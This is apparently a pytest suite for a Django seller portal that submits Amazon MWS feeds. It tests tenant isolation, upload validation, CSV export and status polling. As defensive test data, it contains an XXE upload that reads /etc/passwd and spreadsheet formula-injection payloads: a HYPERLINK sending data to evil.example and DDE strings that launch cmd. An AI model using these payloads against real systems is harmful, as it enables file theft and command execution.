"""Feed pages: thin views over the services, another tenant's feed is a 404 everywhere."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from feeds.models import FeedSubmission
from mwsclient.checksums import content_md5
from mwsportal.gateway.models import MWSCall
from tests.factories import (
    FEED_BODY,
    FeedMessageResultFactory,
    FeedSubmissionFactory,
    SellerFactory,
)

pytestmark = pytest.mark.django_db
State = FeedSubmission.State
INVENTORY = "_POST_INVENTORY_AVAILABILITY_DATA_"


@pytest.fixture
def complete_feed(seller, media):
    feed = FeedSubmissionFactory(
        seller=seller,
        state=State.COMPLETE,
        feed_submission_id="50001",
        processing_status="_DONE_",
        messages_processed=3,
        messages_successful=1,
        messages_with_error=1,
        messages_with_warning=1,
        report_content_type="text/xml; charset=UTF-8",
    )
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    feed.report_file = default_storage.save("feeds/r/processing-report.xml", ContentFile(b"<R/>"))
    feed.save()
    FeedMessageResultFactory(
        submission=feed, message_id=1, sku="W", severity="warning", result_type="Warning"
    )
    FeedMessageResultFactory(submission=feed, message_id=3, sku="E3")
    FeedMessageResultFactory(submission=feed, message_id=2, sku="E2")
    return feed


def feed_urls(feed: FeedSubmission) -> list[tuple[str, str]]:
    get = ["detail", "status", "original", "report", "results_csv", "failed_rows"]
    post = ["submit", "cancel", "discard"]
    return [("get", reverse(f"feeds:{n}", args=[feed.pk])) for n in get] + [
        ("post", reverse(f"feeds:{n}", args=[feed.pk])) for n in post
    ]


def seller_urls(seller) -> list[tuple[str, str]]:
    return [
        ("get", reverse("feeds:seller", args=[seller.pk])),
        ("get", reverse("feeds:seller_table", args=[seller.pk])),
        ("get", reverse("feeds:upload", args=[seller.pk])),
        ("post", reverse("feeds:upload", args=[seller.pk])),
        ("get", reverse("feeds:build", args=[seller.pk])),
        ("post", reverse("feeds:build", args=[seller.pk])),
    ]


def test_another_sellers_feed_is_a_404_everywhere(stranger_client, complete_feed, seller):
    for method, url in feed_urls(complete_feed) + seller_urls(seller):
        response = getattr(stranger_client, method)(url)
        assert response.status_code == 404, (method, url)
    assert "50001" not in stranger_client.get(reverse("feeds:index")).content.decode()
    complete_feed.refresh_from_db()
    assert complete_feed.state == State.COMPLETE


def test_anonymous_visitors_are_sent_to_log_in(client, complete_feed):
    for method, url in feed_urls(complete_feed):
        assert getattr(client, method)(url).status_code == 302


def test_a_dangerous_upload_is_refused_with_a_clear_error_and_nothing_stored(
    owner_client, seller, media
):
    body = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<AmazonEnvelope/>'
    response = owner_client.post(
        reverse("feeds:upload", args=[seller.pk]),
        {"feed_type": INVENTORY, "file": SimpleUploadedFile("x.xml", body)},
    )
    assert response.status_code == 400
    assert "declares a DOCTYPE" in response.content.decode()
    assert "line 1" in response.content.decode()
    assert not FeedSubmission.objects.exists()
    assert not media.exists() or not any(media.rglob("*.xml"))


def test_purge_and_replace_needs_a_confirmation(owner_client, seller):
    response = owner_client.post(
        reverse("feeds:upload", args=[seller.pk]),
        {
            "feed_type": "_POST_FLAT_FILE_INVLOADER_DATA_",
            "purge_and_replace": "on",
            "file": SimpleUploadedFile("f.txt", b"sku\tquantity\nA\t1\n"),
        },
    )
    assert response.status_code == 400
    assert "Tick this to confirm" in response.content.decode()
    assert not FeedSubmission.objects.exists()


def test_a_good_upload_is_stored_and_sent(owner_client, seller):
    response = owner_client.post(
        reverse("feeds:upload", args=[seller.pk]),
        {
            "feed_type": INVENTORY,
            "marketplaces": ["ATVPDKIKX0DER"],
            "file": SimpleUploadedFile("stock.xml", FEED_BODY),
        },
    )
    feed = FeedSubmission.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("feeds:detail", args=[feed.pk])
    assert (feed.filename, feed.marketplace_ids) == ("stock.xml", ["ATVPDKIKX0DER"])


def test_the_upload_form_offers_the_catalogs_feed_types(owner_client, seller):
    page = owner_client.get(reverse("feeds:upload", args=[seller.pk])).content.decode()
    assert "Inventory feed" in page
    assert "Flat file listings" in page
    assert "_UPLOAD_VAT_INVOICE_" not in page  # needs metadata the form does not collect


def test_the_feed_picker_groups_every_offered_type_by_category(owner_client, seller):
    from mwsclient.operations import FEED_TYPES

    page = owner_client.get(reverse("feeds:upload", args=[seller.pk])).content.decode()
    picker = page.split('name="feed_type"', 1)[1].split("</select>", 1)[0]
    for value, info in FEED_TYPES.items():
        if info.format == "binary":
            continue
        group = picker.split(f'value="{value}"', 1)[0].rsplit("<optgroup", 1)[1]
        assert f'label="{info.category}"' in group


def test_a_built_feed_is_shown_for_review_then_submitted(
    owner_client, seller, django_capture_on_commit_callbacks
):
    table = SimpleUploadedFile("stock.csv", b"sku,quantity\nAB-1,5\nAB-2,0\n")
    response = owner_client.post(
        reverse("feeds:build", args=[seller.pk]), {"kind": "inventory", "csv_file": table}
    )
    feed = FeedSubmission.objects.get()
    assert response["Location"] == reverse("feeds:detail", args=[feed.pk])
    page = owner_client.get(response["Location"]).content.decode()
    assert "Review the feed" in page
    assert "&lt;SKU&gt;AB-2&lt;/SKU&gt;" in page
    assert not MWSCall.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        owner_client.post(reverse("feeds:submit", args=[feed.pk]))
    assert MWSCall.objects.get().operation == "SubmitFeed"


def test_builder_errors_name_their_lines(owner_client, seller):
    response = owner_client.post(
        reverse("feeds:build", args=[seller.pk]), {"kind": "price", "table": "A,1.00,USD\nB,x,USD"}
    )
    assert response.status_code == 400
    assert "Line 2: price “x” is not a number" in response.content.decode()
    assert not FeedSubmission.objects.exists()


def test_results_are_listed_failing_first_and_downloadable(owner_client, complete_feed):
    page = owner_client.get(reverse("feeds:detail", args=[complete_feed.pk])).content.decode()
    assert page.index(">E2<") < page.index(">E3<") < page.index(">W<")
    response = owner_client.get(reverse("feeds:results_csv", args=[complete_feed.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "50001-results.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row[1] for row in rows[1:]] == ["E2", "E3", "W"]
    assert rows[1][3] == "error"


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_results_csv_cells_never_start_a_formula(owner_client, complete_feed, dangerous):
    FeedMessageResultFactory(
        submission=complete_feed,
        message_id=9,
        sku=dangerous,
        order_id=dangerous,
        code=dangerous[:32],  # the column's length, enforced by PostgreSQL
        description=dangerous,
    )
    response = owner_client.get(reverse("feeds:results_csv", args=[complete_feed.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = [r for r in rows if r[0] == "9"]
    assert row[1] == row[2] == row[6] == f"'{dangerous}", "shown as text, kept whole"
    assert row[5] == f"'{dangerous[:32]}"
    for cells in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_original_and_raw_report_download_with_type_and_name(owner_client, complete_feed):
    original = owner_client.get(reverse("feeds:original", args=[complete_feed.pk]))
    assert original["Content-Type"] == "text/xml"
    assert 'filename="inventory.xml"' in original["Content-Disposition"]
    assert b"".join(original.streaming_content) == FEED_BODY
    report = owner_client.get(reverse("feeds:report", args=[complete_feed.pk]))
    assert report["Content-Type"] == "text/xml; charset=UTF-8"
    assert "inventory-feed-50001-processing-report.xml" in report["Content-Disposition"]


def test_the_status_fragment_polls_while_open_and_announces_when_settled(owner_client, seller):
    feed = FeedSubmissionFactory(
        seller=seller,
        state=State.SUBMITTED,
        feed_submission_id="7",
        processing_status="_IN_SAFETY_NET_",
    )
    url = reverse("feeds:status", args=[feed.pk])
    open_fragment = owner_client.get(url + "?was=open")
    assert 'hx-trigger="every 2s"' in open_fragment.content.decode()
    assert "confirm or cancel it in Seller Central" in open_fragment.content.decode()
    assert "HX-Trigger" not in open_fragment
    feed.state = State.COMPLETE
    feed.save()
    settled = owner_client.get(url + "?was=open")
    assert "hx-trigger" not in settled.content.decode()
    assert settled["HX-Trigger"] == "feed-settled"
    assert "HX-Refresh" not in settled, "the page refreshes itself in place, never reloads"


def test_the_seller_dashboard_lists_recent_feeds(owner_client, complete_feed, seller):
    page = owner_client.get(reverse("sellers:dashboard", args=[seller.pk])).content.decode()
    assert "Recent feeds" in page
    assert reverse("feeds:detail", args=[complete_feed.pk]) in page
    assert 'href="/feeds/"' in page  # the Feeds item of the main navigation


@pytest.mark.parametrize("name", ["feeds:upload", "feeds:build"])
def test_upload_pages_still_check_the_csrf_token(owner, seller, name):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(owner)
    response = client.post(
        reverse(name, args=[seller.pk]),
        {"feed_type": INVENTORY, "kind": "inventory", "table": "A,1"},
    )
    assert response.status_code == 403
    assert not FeedSubmission.objects.exists()


def test_the_feed_list_refreshes_itself_only_while_a_feed_is_open(owner_client, seller):
    feed = FeedSubmissionFactory(seller=seller, state=State.SUBMITTED, feed_submission_id="8")
    url = reverse("feeds:seller_table", args=[seller.pk])
    assert 'hx-trigger="every 3s"' in owner_client.get(url).content.decode()
    feed.state = State.COMPLETE
    feed.save()
    settled = owner_client.get(url).content.decode()
    assert "hx-trigger" not in settled
    assert reverse("feeds:detail", args=[feed.pk]) in settled


def test_the_detail_page_counts_the_checked_messages(owner_client, seller):
    with_two = FEED_BODY.replace(
        b"</Message>",
        b"</Message><Message><MessageID>2</MessageID><Inventory><SKU>B</SKU>"
        b"<Quantity>1</Quantity></Inventory></Message>",
    )
    owner_client.post(
        reverse("feeds:upload", args=[seller.pk]),
        {"feed_type": INVENTORY, "file": SimpleUploadedFile("two.xml", with_two)},
    )
    feed = FeedSubmission.objects.get()
    assert feed.record_count == 2
    assert (
        "2 messages" in owner_client.get(reverse("feeds:detail", args=[feed.pk])).content.decode()
    )


def test_a_long_draft_shows_its_beginning_and_says_so(owner_client, seller):
    short = FeedSubmissionFactory(seller=seller)
    long = FeedSubmissionFactory(seller=seller, filename="long.xml", body=FEED_BODY * 3000)
    assert (
        "Only the beginning"
        not in owner_client.get(reverse("feeds:detail", args=[short.pk])).content.decode()
    )
    page = owner_client.get(reverse("feeds:detail", args=[long.pk])).content.decode()
    assert "Only the beginning is shown" in page
    assert "Review the feed" in page


def test_the_feeds_overview_lists_every_own_seller_and_no_other(owner_client, owner, seller):
    from tests.factories import SellerFactory

    second = SellerFactory(owner=owner, name="Second shop")
    mine = FeedSubmissionFactory(seller=second, state=State.COMPLETE, feed_submission_id="111")
    theirs = FeedSubmissionFactory(state=State.COMPLETE, feed_submission_id="222")
    page = owner_client.get(reverse("feeds:index")).content.decode()
    assert reverse("feeds:seller", args=[seller.pk]) in page
    assert reverse("feeds:seller", args=[second.pk]) in page
    assert reverse("feeds:detail", args=[mine.pk]) in page
    assert reverse("feeds:detail", args=[theirs.pk]) not in page


PRICE_QUANTITY = "_POST_FLAT_FILE_PRICEANDQUANTITYONLY_UPDATE_DATA_"


def test_a_utf8_flat_file_is_refused_unless_the_seller_asks_to_convert_it(
    owner_client, seller, media
):
    body = "sku\tprice\tquantity\nCRÈME-1\t\t4\n".encode()
    url = reverse("feeds:upload", args=[seller.pk])
    refused = owner_client.post(
        url, {"feed_type": PRICE_QUANTITY, "file": SimpleUploadedFile("pq.txt", body)}
    )
    assert refused.status_code == 400
    page = refused.content.decode()
    assert "The file is UTF-8 text" in page
    assert "line 2, column 3" in page
    assert "Convert a UTF-8 flat file to iso-8859-1" in page
    assert not FeedSubmission.objects.exists()

    converted = owner_client.post(
        url,
        {
            "feed_type": PRICE_QUANTITY,
            "convert_charset": "on",
            "file": SimpleUploadedFile("pq.txt", body),
        },
    )
    assert converted.status_code == 302
    feed = FeedSubmission.objects.get()
    with default_storage.open(feed.file, "rb") as stored:
        assert stored.read() == "sku\tprice\tquantity\nCRÈME-1\t\t4\n".encode("iso-8859-1")
    assert feed.content_md5 == content_md5("sku\tprice\tquantity\nCRÈME-1\t\t4\n".encode("latin-1"))


def test_a_character_latin_1_cannot_hold_is_refused_even_when_converting(owner_client, seller):
    body = "sku\tprice\tquantity\nKEH-Ω\t\t4\n".encode()
    refused = owner_client.post(
        reverse("feeds:upload", args=[seller.pk]),
        {
            "feed_type": PRICE_QUANTITY,
            "convert_charset": "on",
            "file": SimpleUploadedFile("pq.txt", body),
        },
    )
    assert refused.status_code == 400
    assert "“Ω” (U+03A9) cannot be written in iso-8859-1" in refused.content.decode()
    assert "line 2, column 5" in refused.content.decode()
    assert not FeedSubmission.objects.exists()
    assert not MWSCall.objects.exists()


def test_japanese_sellers_get_no_convert_option(owner, owner_client):
    seller = SellerFactory(owner=owner, region="FE")
    page = owner_client.get(reverse("feeds:upload", args=[seller.pk]))
    assert "convert_charset" not in page.context["form"].fields


def test_an_open_feed_says_how_long_such_feeds_usually_take(owner_client, seller):
    now = timezone.now()
    for minutes in (4, 5, 6):
        FeedSubmissionFactory(
            seller=seller,
            state=State.COMPLETE,
            submitted_date=now - timedelta(hours=1),
            completed_processing_date=now - timedelta(hours=1) + timedelta(minutes=minutes),
        )
    feed = FeedSubmissionFactory(
        seller=seller,
        state=State.SUBMITTED,
        feed_submission_id="8",
        submitted_date=now - timedelta(minutes=2),
    )

    text = owner_client.get(reverse("feeds:status", args=[feed.pk])).content.decode()

    assert "Feeds like this one usually take 5 minutes at Amazon: about 3 minutes left." in text


def test_a_feed_of_a_type_never_processed_gives_no_estimate(owner_client, seller):
    feed = FeedSubmissionFactory(seller=seller, state=State.SUBMITTED, feed_submission_id="9")
    text = owner_client.get(reverse("feeds:status", args=[feed.pk])).content.decode()
    assert "usually take" not in text
